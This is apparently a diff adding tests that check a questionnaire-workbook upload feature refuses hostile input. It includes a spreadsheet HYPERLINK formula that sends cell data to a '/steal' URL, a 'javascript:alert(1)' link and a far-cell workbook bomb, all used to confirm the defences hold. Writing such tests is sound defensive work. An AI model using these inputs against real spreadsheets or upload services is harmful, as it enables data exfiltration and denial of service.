@@ -5,6 +5,7 @@ from openpyxl import load_workbook
 
 from mgi.assessments.answers import AnswerEdit, SourceFields, add_source, save_answer
 from mgi.assessments.models import Answer, AuditRecord, Source
+from tests.lib.hostile_workbooks import far_cell_bomb
 from tests.workspace.conftest import PASSWORD
 
 
@@ -136,7 +137,10 @@ def dropped_column(book):
 BROKEN = {
     "wrong sheet": (rename_sheet, "no sheet 'Answers'"),
     "bad option": (bad_option, "sheet 'Answers', row"),
-    "bad url": (bad_url, "sheet 'Sources', row 3 (N1): 'javascript:alert(1)' is not an http"),
+    "bad url": (
+        bad_url,
+        ("sheet 'Sources', row 3, column 'url' (N1): 'javascript:alert(1)' is not an http"),
+    ),
     "bad date": (bad_date, "sheet 'Sources', row 3, column 'date'"),
     "unknown source": (unknown_source, "column 'sources': no source N9"),
     "another assessment": (another_assessment, "belongs to another assessment"),
@@ -186,3 +190,175 @@ def test_edits_to_rows_changed_since_download_are_reported_and_nothing_lands(
 
     assert "someone else changed indicator 1.1.1" in page
     assert state(draft) == before
+
+
+@pytest.mark.parametrize(
+    "sheet_xml, cell, refusal",
+    [
+        ("xl/worksheets/sheet1.xml", "XFD1048576", "sheet 'Answers': a value lies beyond"),
+        ("xl/worksheets/sheet2.xml", "CV100000", "sheet 'Sources': a value lies beyond"),
+        ("xl/worksheets/sheet3.xml", "B100000", "sheet 'About': a value lies beyond row 5000"),
+    ],
+)
+def test_a_workbook_with_a_cell_far_away_is_refused_without_exhausting_memory(
+    researcher_client, draft, sheet_xml, cell, refusal
+):
+    import time
+    import tracemalloc
+
+    raw = researcher_client.get(f"/workspace/assessments/{draft.pk}/questionnaire.xlsx").content
+    bomb = far_cell_bomb(raw, sheet_xml, cell)
+    assert len(bomb) < 30_000
+    before = state(draft)
+
+    started = time.monotonic()
+    page = upload(researcher_client, draft, bomb)
+    seconds = time.monotonic() - started
+    tracemalloc.start()
+    try:
+        upload(researcher_client, draft, bomb)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+
+    assert seconds < 10  # a generous bound: walking the cells takes minutes
+    assert peak < 100 * 1024 * 1024
+    assert refusal in page.replace("&#x27;", "'")
+    assert state(draft) == before
+
+
+def sheet_xml(raw: bytes) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        return "".join(
+            archive.read(name).decode()
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/")
+        )
+
+
+def test_researcher_text_that_looks_like_a_formula_is_downloaded_as_text_and_uploads_unchanged(
+    researcher_client, cast, draft, answer_of
+):
+    formula = '=HYPERLINK("http://example.org/steal?"&A1,"Details")'
+    save_answer(answer_of("1.1.1"), 1, AnswerEdit("partial", formula, []), cast["researcher"])
+    source = add_source(draft, SourceFields(title="=x", kind="law"), cast["researcher"])
+    raw = researcher_client.get(f"/workspace/assessments/{draft.pk}/questionnaire.xlsx").content
+    book = load_workbook(io.BytesIO(raw))
+    before = state(draft)
+
+    assert "<f>" not in sheet_xml(raw)
+    assert row_of(book["Answers"], "1.1.1")[5].value == formula
+    assert row_of(book["Answers"], "1.1.1")[5].quotePrefix
+    assert row_of(book["Sources"], f"S{source.pk}")[1].value == "=x"
+    page = upload(researcher_client, draft, book)
+
+    assert "The workbook holds no change." in page
+    assert state(draft) == before
+
+
+def test_a_new_source_typed_as_a_formula_keeps_its_text(researcher_client, draft):
+    book = download(researcher_client, draft)
+    book["Sources"].append(["N1", "=x", "law", "", "", ""])  # a formula cell, as typed
+    row_of(book["Answers"], "1.1.1")[6].value = "N1"
+
+    page = upload(researcher_client, draft, book)
+
+    assert "1 new sources" in page
+    assert Source.objects.get(assessment=draft).title == "=x"
+
+
+def test_a_justification_with_control_characters_downloads_and_round_trips(
+    researcher_client, cast, draft, answer_of
+):
+    text = "First page\x0cSecond page\x07, a _x000C_ written out, and\r\nWindows lines"
+    save_answer(answer_of("1.1.1"), 1, AnswerEdit("partial", text, []), cast["researcher"])
+    book = download(researcher_client, draft)
+    row_of(book["Answers"], "1.1.2")[4].value = "complete"
+
+    page = upload(researcher_client, draft, book)
+
+    assert "The workbook is applied: 1 answers" in page
+    assert answer_of("1.1.1").justification == text
+    assert answer_of("1.1.1").version == 2
+
+
+def test_a_new_source_numbered_after_the_ones_shown_is_added(researcher_client, draft, with_source):
+    book = download(researcher_client, draft)
+    next_ref = f"S{with_source.pk + 1}"
+    assert next_ref in book["About"]["B7"].value  # the instructions name the next number
+    book["Sources"].append([next_ref, "Decree 1350", "law", "", "", "2017-01-07"])
+    row_of(book["Answers"], "1.1.1")[6].value = f"S{with_source.pk}; {next_ref}"
+
+    page = upload(researcher_client, draft, book)
+
+    assert "The workbook is applied: 1 answers, 1 new sources, 0 sources changed." in page
+    decree = Source.objects.get(title="Decree 1350")
+    linked = set(draft.answers.get(indicator__code="1.1.1").sources.all())
+    assert linked == {with_source, decree}
+
+
+def test_a_new_source_given_the_ref_of_an_existing_one_is_refused_naming_a_free_ref(
+    researcher_client, draft, with_source
+):
+    book = download(researcher_client, draft)
+    book["Sources"].append([f"S{with_source.pk}", "Decree 1350", "law", "", "", ""])
+    before = state(draft)
+
+    page = upload(researcher_client, draft, book).replace("&#x27;", "'")
+
+    assert f"column 'ref': S{with_source.pk} is already the source 'Migration Act'" in page
+    assert f"such as S{with_source.pk + 1}" in page
+    assert state(draft) == before
+
+
+def test_a_workbook_resaved_with_other_line_ends_and_trailing_spaces_changes_nothing(
+    researcher_client, cast, draft, answer_of, with_source
+):
+    text = "First line  \r\nSecond line\r\n"
+    save_answer(answer_of("1.1.1"), 1, AnswerEdit("partial", text, []), cast["researcher"])
+    book = download(researcher_client, draft)
+    row_of(book["Answers"], "1.1.1")[5].value = "First line\nSecond line"
+    row_of(book["Sources"], f"S{with_source.pk}")[1].value = "Migration Act   "
+    before = state(draft)
+
+    page = upload(researcher_client, draft, book)
+
+    assert "The workbook holds no change." in page
+    assert state(draft) == before
+
+
+def test_an_edited_answer_keeps_its_stored_text_where_only_line_ends_differ(
+    researcher_client, cast, draft, answer_of
+):
+    text = "First line\r\nSecond line"
+    save_answer(answer_of("1.1.1"), 1, AnswerEdit("partial", text, []), cast["researcher"])
+    book = download(researcher_client, draft)
+    row = row_of(book["Answers"], "1.1.1")
+    row[4].value, row[5].value = "complete", "First line\nSecond line "
+
+    upload(researcher_client, draft, book)
+
+    assert (answer_of("1.1.1").option.code, answer_of("1.1.1").justification) == (
+        "complete",
+        text,
+    )
+
+
+def test_upload_problems_are_listed_one_per_line_each_with_sheet_row_and_column(
+    researcher_client, draft
+):
+    from bs4 import BeautifulSoup
+
+    book = download(researcher_client, draft)
+    row_of(book["Answers"], "1.2.1")[4].value = "mostly"
+    book["Sources"].append(["N1", "A law", "law", "", "javascript:alert(1)", ""])
+    book["Sources"].append(["N2", "A law", "law", "", "", "31/12/2020"])
+
+    page = BeautifulSoup(upload(researcher_client, draft, book), "html.parser")
+
+    problems = [item.get_text() for item in page.select("[role=alert] li")]
+    assert len(problems) == 3
+    for problem in problems:
+        assert problem.startswith("sheet '") and ", row " in problem and ", column '" in problem
